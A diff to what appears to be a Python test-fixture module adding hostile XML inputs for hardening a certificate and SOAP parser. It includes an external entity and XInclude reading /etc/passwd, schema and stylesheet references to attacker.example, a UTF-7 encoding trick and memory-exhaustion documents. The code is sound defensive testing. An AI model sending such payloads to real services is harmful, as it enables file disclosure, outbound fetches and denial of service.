@@ -76,3 +76,63 @@ def latin1_without_declaration() -> bytes:
 def truncated(document: bytes) -> bytes:
     """The first half of a document, as a dropped connection leaves it."""
     return document[: len(document) // 2]
+
+
+def quadratic_blowup(size: int = 50_000, uses: int = 50_000) -> bytes:
+    """One large internal entity used many times: no nesting, but size x uses bytes if expanded."""
+    return f'<!DOCTYPE c [<!ENTITY x "{"x" * size}">]>{_certificate("&x;" * uses)}'.encode()
+
+
+def xinclude(href: str = "file:///etc/passwd") -> bytes:
+    """An XInclude element: a reader that processes XInclude would pull the file into the certificate number."""
+    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href}" parse="text"/>'
+    return _certificate(include).encode()
+
+
+def schema_location(url: str = "http://attacker.example/evil.xsd") -> bytes:
+    """xsi:schemaLocation pointing outside: a validating reader that fetches schemas would call it."""
+    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
+    return (
+        _certificate()
+        .replace("<rsm:SPSCertificate ", f'<rsm:SPSCertificate {xsi} xsi:schemaLocation="{SPS} {url}" ', 1)
+        .encode()
+    )
+
+
+def stylesheet_instruction(url: str = "http://attacker.example/evil.xsl") -> bytes:
+    """An xml-stylesheet processing instruction: a reader that applies it would fetch and run XSLT."""
+    return f'<?xml-stylesheet type="text/xsl" href="{url}"?>{_certificate()}'.encode()
+
+
+def declared_encoding(name: str = "UTF-7") -> bytes:
+    """A document declaring an encoding whose decoders have hidden markup from filters (UTF-7's +ADw-)."""
+    return f'<?xml version="1.0" encoding="{name}"?>{_certificate()}'.encode()
+
+
+def soap_with_entity() -> bytes:
+    """A SOAP envelope (the Hub's transport) that declares an external entity and uses it in its body."""
+    return (
+        b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&x;</soap:Body>'
+        b"</soap:Envelope>"
+    )
+
+
+def long_name(length: int = 1_000_000) -> bytes:
+    """An element name of `length` characters: echoed into an error message, it would flood logs and responses."""
+    return f"<{'n' * length}/>".encode()
+
+
+def many_attributes(count: int = 100_000) -> bytes:
+    """One element with `count` attributes: hash-table and memory pressure inside a size limit."""
+    return ("<a " + " ".join(f'a{i}="x"' for i in range(count)) + "/>").encode()
+
+
+def many_elements(count: int = 300_000) -> bytes:
+    """A flat document of `count` empty elements: no depth, but a tree too large for memory."""
+    return b"<a>" + b"<b/>" * count + b"</a>"
+
+
+def nul_byte() -> bytes:
+    """A NUL inside UTF-8 text: not allowed anywhere in XML 1.0."""
+    return _certificate("123\x00ABC").encode()
